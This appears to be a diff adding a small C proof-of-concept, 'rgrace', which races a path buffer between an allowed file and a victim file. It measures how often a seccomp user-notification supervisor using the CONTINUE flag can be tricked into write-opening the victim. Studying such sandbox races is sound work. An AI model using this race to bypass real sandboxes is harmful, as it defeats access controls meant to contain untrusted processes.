@@ -1,0 +1,56 @@
+/* The race that makes SECCOMP_USER_NOTIF_FLAG_CONTINUE unsafe for writes:
+ * one thread keeps flipping the path buffer between a file the session may
+ * write (ALLOWED) and one it never read (VICTIM, same name length), while
+ * the main thread write-opens whatever the buffer says. A supervisor that
+ * checks the path and lets the kernel open it again would open VICTIM now
+ * and then. Prints how many of TRIES opens reached VICTIM's inode.
+ *   rgrace VICTIM ALLOWED TRIES */
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static char path[4096];
+static const char *names[2];
+static atomic_int stop;
+
+static void *flip(void *arg)
+{
+    (void)arg;
+    size_t n = strlen(names[0]);
+    for (unsigned i = 0; !atomic_load_explicit(&stop, memory_order_relaxed); i++)
+        memcpy(path, names[i & 1], n + 1);
+    return NULL;
+}
+
+int main(int argc, char **argv)
+{
+    struct stat victim, st;
+    if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || stat(argv[1], &victim) != 0) {
+        fprintf(stderr, "usage: rgrace VICTIM ALLOWED TRIES (names of equal length)\n");
+        return 2;
+    }
+    names[0] = argv[1];
+    names[1] = argv[2];
+    strcpy(path, names[1]);
+    long tries = atol(argv[3]), hits = 0, opened = 0;
+    pthread_t th;
+    pthread_create(&th, NULL, flip, NULL);
+    for (long i = 0; i < tries; i++) {
+        int fd = open(path, O_WRONLY);
+        if (fd < 0)
+            continue;
+        opened++;
+        if (fstat(fd, &st) == 0 && st.st_ino == victim.st_ino && st.st_dev == victim.st_dev)
+            hits++;
+        close(fd);
+    }
+    atomic_store(&stop, 1);
+    pthread_join(th, NULL);
+    printf("opened %ld victim %ld\n", opened, hits);
+    return 0;
+}
